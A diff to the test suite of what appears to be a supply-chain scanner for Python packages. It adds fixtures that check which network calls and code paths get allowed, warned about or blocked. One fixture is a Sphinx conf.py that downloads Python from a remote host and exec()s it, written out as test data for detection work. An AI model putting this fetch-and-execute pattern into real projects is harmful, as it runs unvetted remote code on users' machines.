@@ -501,6 +501,12 @@ KEY_LOOKALIKES = (
     "    return requests.post('https://dashboard-example.site/login', data={'pw': password})\n"
     "def sample(seed):\n"  # a random seed is not a seed phrase
     "    return requests.post('https://llm-example.xyz/v1/complete', json={'seed': seed})\n"
+    "class Client:\n"  # an API's secret key, given by the caller, to that API's app host
+    "    def __init__(self, secret_key):\n"
+    "        self.secret_key = secret_key\n"
+    "    def ask(self, query):\n"
+    "        data = {'query': query, 'secret_key': self.secret_key}\n"
+    "        return requests.post('https://team-app.example.space/ask', data=data).json()\n"
 )
 
 
@@ -510,6 +516,28 @@ def test_a_signing_key_sent_to_a_throwaway_domain_blocks(tmp_path: Path) -> None
 
 def test_keys_to_their_own_service_and_passwords_are_allowed(tmp_path: Path) -> None:
     assert _wheel(tmp_path, {"sample/__init__.py": KEY_LOOKALIKES}) is Decision.ALLOW
+
+
+# -- remote code in a docs build ----------------------------------------------------------------
+
+DOCS_CONF = (
+    "from urllib.request import urlopen\n"
+    "_conf_url = 'https://docs-theme.example.org/upload/shared-conf.py'\n"
+    "with urlopen(_conf_url) as _inf:\n"
+    "    exec(compile(_inf.read(), _conf_url, 'exec'), globals())\n"
+)
+
+
+def test_a_docs_build_that_runs_a_fetched_config_warns_but_is_not_blocked(
+    tmp_path: Path,
+) -> None:
+    """A Sphinx `conf.py` runs when someone builds the docs, not at install or import."""
+    files = {"doc/conf.py": DOCS_CONF, "sample/__init__.py": "VALUE = 1\n"}
+    assert _sdist(tmp_path, "from setuptools import setup\nsetup()\n", files) is Decision.WARN
+
+
+def test_the_same_code_in_the_package_blocks(tmp_path: Path) -> None:
+    assert _wheel(tmp_path, {"sample/__init__.py": DOCS_CONF}) is Decision.BLOCK
 
 
 # -- a chat bot that runs the commands it is sent -----------------------------------------------
